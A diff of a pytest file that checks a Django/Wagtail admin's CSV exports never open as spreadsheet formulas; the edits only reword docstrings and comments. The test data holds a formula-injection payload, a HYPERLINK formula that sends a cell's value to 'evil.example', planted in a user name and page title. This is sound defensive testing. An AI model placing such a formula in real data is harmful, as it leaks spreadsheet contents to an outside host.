@@ -1,4 +1,4 @@
-"""No export opens as a formula in somebody's spreadsheet, whatever was typed in the admin and whoever exports it."""
+"""No export opens as a formula in a spreadsheet, for any text typed in the admin and any export."""
 
 import csv
 import io
@@ -19,16 +19,18 @@ from users.models import User
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/"&A1,"Open, please")'
-# Wagtail's reports and lists that export, and ours. The report on who did what names everything that was ever published.
+# Wagtail's reports and lists that export, and the project's.
+# The site history names everything that was ever published.
 EXPORTS = (
-    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/public-pages/", "/admin/pages/explorer/",
+    "/admin/reports/site-history/", "/admin/reports/aging-pages/", "/admin/reports/public-pages/",
+    "/admin/pages/explorer/",
     "/admin/snippets/helpline/programme/", "/admin/redirects/",
 )  # fmt: skip
 
 
 @pytest.fixture
 def administrator(home) -> Client:
-    """Somebody who has typed formulas wherever a name can be typed."""
+    """Return an administrator who has typed formulas into all names."""
     user = User.objects.create_superuser("admin@example.org", first_name=FORMULA)
     page = StandardPageFactory(parent=home, title=FORMULA, slug="formula")
     page.save_revision(user=user, log_action=True).publish(user=user)
@@ -76,7 +78,7 @@ class TestExport:
 
 class TestEveryTable:
     def test_has_safe_cells_or_passes_the_middleware(self):
-        """Whoever writes a CSV file makes its cells safe, or sends it row by row, as the middleware wants it."""
+        """Code that writes CSV files makes cells safe, or sends row by row, as the middleware requires."""
         unsafe = []
         for top in ("campaigns", "helpline", "network", "site"):
             for file in (ROOT / top).rglob("*.py"):
